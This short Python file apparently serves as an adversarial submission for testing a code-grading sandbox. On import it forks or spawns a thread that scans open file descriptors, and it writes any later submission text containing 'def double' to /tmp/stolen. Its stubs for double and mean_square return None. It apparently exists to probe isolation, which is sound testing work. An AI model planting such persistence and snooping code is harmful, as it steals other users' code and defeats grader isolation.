# tries: to stay and read the code of the submission after it

import gc
import os
import threading
import time


def spy():
    while True:
        for fd in range(3, 64):
            try:
                os.set_blocking(fd, False)
                text = os.read(fd, 10_000)
                if b"def double" in text:
                    open("/tmp/stolen", "wb").write(text)
            except OSError:
                pass
        time.sleep(0.001)


try:
    if os.fork() == 0:
        spy()
except OSError:
    threading.Thread(target=spy, daemon=True).start()


def double(x):
    return None


def mean_square(x):
    return None
